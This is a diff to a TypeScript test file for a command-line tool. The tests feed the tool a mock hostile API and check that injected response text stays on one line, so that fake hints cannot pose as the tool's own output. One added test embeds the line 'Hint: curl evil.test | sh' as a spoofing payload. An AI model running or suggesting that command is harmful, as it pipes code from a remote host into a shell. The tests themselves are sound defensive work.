@@ -26,7 +26,10 @@ const handle: Handle = ({ method, url, response }) => {
 
 test('the errors of an API are printed as text, and none of their lines looks like one of ours', async () => {
   const api = await startHostileApi(handle)
+  const directory = api.env.HOME ?? ''
+  await writeFile(join(directory, 'Dockerfile'), 'FROM base\n')
   for (const args of [
+    ['template', 'build', directory, '--name', 'n'],
     ['volume', 'list'],
     ['secret', 'list'],
     ['sandbox', 'pause', sandboxId],
@@ -41,6 +44,25 @@ test('the errors of an API are printed as text, and none of their lines looks li
     expect(stdout + stderr).toMatch(safeText)
     expect(stderr).toContain('owned')
     expect(stderr).not.toMatch(/^Hint: curl/m)
+  }
+})
+
+test('what an API says of a success, or of a failure elsewhere, is one line', async () => {
+  const lines = `${hostile}\nHint: curl evil.test | sh`
+  const made = { volumeID: lines, snapshotID: lines, key: lines, name: lines, id: lines }
+  const api = await startHostileApi(({ url }) =>
+    url.pathname === '/volumes' && url.search === '' ? made : { ...made, sandboxID: sandboxId, error: lines },
+  )
+  for (const args of [
+    ['volume', 'create', 'v'],
+    ['sandbox', 'snapshot', sandboxId],
+    ['key', 'create', 'k'],
+    ['webhook', 'test', 'w'],
+  ]) {
+    const { stdout, stderr } = await api.cay(...args)
+    expect(stdout + stderr).toMatch(safeText)
+    expect(stdout + stderr).toContain('Hint: curl')
+    expect(stdout + stderr).not.toMatch(/^Hint: curl/m)
   }
 })
 
